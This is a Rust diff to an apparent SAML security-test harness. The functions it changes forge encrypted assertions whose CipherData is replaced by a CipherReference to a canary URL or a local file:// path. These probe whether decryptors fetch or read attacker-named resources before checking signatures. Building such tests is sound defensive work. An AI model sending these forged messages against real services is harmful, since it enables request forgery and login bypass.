@@ -7,7 +7,7 @@
 
 use saml_protocol::xmlenc::{self, KeyTransport, XENC_NS};
 
-use saml_protocol::PROTOCOL_NS;
+use saml_protocol::{BASE64_TRANSFORM, DSIG_NS, PROTOCOL_NS};
 
 use crate::bytes::{child, declares_own_namespace, escape, insert, splice, Doc};
 use crate::family::{evil_id, forge_document, strip_signatures, token, Parts};
@@ -107,17 +107,43 @@ enum Ciphertext {
 /// named by an `xenc:CipherReference` on the canary: a decryptor that dereferences it fetches
 /// whatever a message names, before any signature is checked.
 pub fn cipher_reference_data(f: &Forge) -> Result<Forged, Skip> {
-    cipher_referenced(f, Ciphertext::Content, "cipher-data")
+    let uri = format!("{}/cipher-data", f.canary()?.prefix);
+    let (xml, _) = cipher_referenced(f, Ciphertext::Content, &uri, "")?;
+    Ok(Forged::same_identity(xml))
 }
 
 /// As [`cipher_reference_data`], the EncryptedKey's wrapped key named by the CipherReference
 /// (a decryptor may restrict the outer context only: `xmlsec1 --enabled-cipher-reference-uris`).
 pub fn cipher_reference_key(f: &Forge) -> Result<Forged, Skip> {
-    cipher_referenced(f, Ciphertext::Key, "cipher-key")
+    let uri = format!("{}/cipher-key", f.canary()?.prefix);
+    let (xml, _) = cipher_referenced(f, Ciphertext::Key, &uri, "")?;
+    Ok(Forged::same_identity(xml))
 }
 
-fn cipher_referenced(f: &Forge, which: Ciphertext, path: &str) -> Result<Forged, Skip> {
-    let uri = format!("{}/{path}", f.canary()?.prefix);
+/// As [`cipher_reference_data`], the ciphertext (base64, named with a base64 Transform) in the
+/// check's local file on the harness's machine, named by a `file://` URI: a decryptor without
+/// HTTP (libxmlsec1 built without it, the default since 1.2.40 and 1.3.5, and PyPI's xmlsec
+/// wheels) still reads files, and signs the user in only if it read and decrypted that one.
+pub fn cipher_reference_file(f: &Forge) -> Result<Forged, Skip> {
+    let uri = format!("file://{}", f.canary()?.file);
+    let base64 = format!(
+        "<xenc:Transforms><ds:Transform xmlns:ds=\"{DSIG_NS}\" Algorithm=\"{BASE64_TRANSFORM}\"/></xenc:Transforms>"
+    );
+    let (xml, ciphertext) = cipher_referenced(f, Ciphertext::Content, &uri, &base64)?;
+    Ok(Forged {
+        local_file: Some(ciphertext),
+        ..Forged::same_identity(xml)
+    })
+}
+
+/// The IdP's own assertion encrypted to the SP, `which` ciphertext's CipherValue replaced by a
+/// CipherReference to `uri` holding `transforms`; with the base64 CipherValue it replaced.
+fn cipher_referenced(
+    f: &Forge,
+    which: Ciphertext,
+    uri: &str,
+    transforms: &str,
+) -> Result<(String, String), Skip> {
     let xml = encrypted(f, f.seed, KeyTransport::RsaOaep, &|a| a.to_owned())?;
     let doc = Doc::parse_built(&xml)?;
     let name = match which {
@@ -134,14 +160,18 @@ fn cipher_referenced(f: &Forge, which: Ciphertext, path: &str) -> Result<Forged,
                 "the encrypted assertion built has no {name}/CipherData"
             ))
         })?;
+    let value = child(cipher_data, XENC_NS, "CipherValue")
+        .and_then(|v| v.text())
+        .unwrap_or_default()
+        .to_owned();
     let reference = format!(
-        "<xenc:CipherData><xenc:CipherReference URI=\"{}\"/></xenc:CipherData>",
-        escape(&uri)
+        "<xenc:CipherData><xenc:CipherReference URI=\"{}\">{transforms}</xenc:CipherReference></xenc:CipherData>",
+        escape(uri)
     );
-    Ok(Forged::same_identity(splice(
-        doc.src,
-        vec![(cipher_data.range(), reference)],
-    )))
+    Ok((
+        splice(doc.src, vec![(cipher_data.range(), reference)]),
+        value,
+    ))
 }
 
 /// The signed Assertion encrypted, and a forged unsigned copy (new ID) in plaintext before
